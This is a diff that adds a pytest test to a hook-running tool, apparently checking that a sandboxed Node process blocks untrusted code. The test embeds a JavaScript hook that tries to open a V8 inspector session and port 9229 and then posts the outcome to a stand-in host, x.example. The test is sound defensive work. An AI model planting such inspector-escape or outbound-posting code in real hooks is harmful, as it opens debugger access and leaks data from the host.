@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+import pytest
 from click.testing import CliRunner
 
 from reconciler.cli import cli
@@ -75,3 +76,24 @@ def test_check_before_and_after_write_runs_the_adapter_it_writes(node: Node, tmp
     after = check(config)
     assert before.exit_code == after.exit_code == 0, before.output
     assert before.stdout.replace("generated action", "config action") == after.stdout
+
+
+def test_a_hook_cannot_open_its_own_inspector_session(node: Node) -> None:
+    # The proof's process allows V8's inspector for its coverage session only.
+    code = """module.exports = function (user, context, cb) {
+  let opened = 'no';
+  try { new (process.getBuiltinModule('inspector').Session)().connect(); opened = 'yes'; } catch (e) { opened = 'refused'; }
+  try { process.getBuiltinModule('inspector').open(9229); opened += ' port'; } catch (e) { opened += ' no-port'; }
+  require('axios').post('https://x.example/', { opened });
+  cb();
+};"""
+    from reconciler.runner.proof import proof_node, run_proof
+    from reconciler.runner.samples import builtin_samples
+    from reconciler.runner.targets import KeywordValues, Target
+
+    if not proof_node()[1]:
+        pytest.skip("no Node with --allow-inspector")
+    hook = Target("hook", "spy", POST, code)
+    record = run_proof(hook, hook, builtin_samples(POST), (), KeywordValues())
+    sent = [r for run in record.runs for r in run.hook.requests]
+    assert sent and all(r["args"][1] == {"opened": "refused no-port"} for r in sent), sent
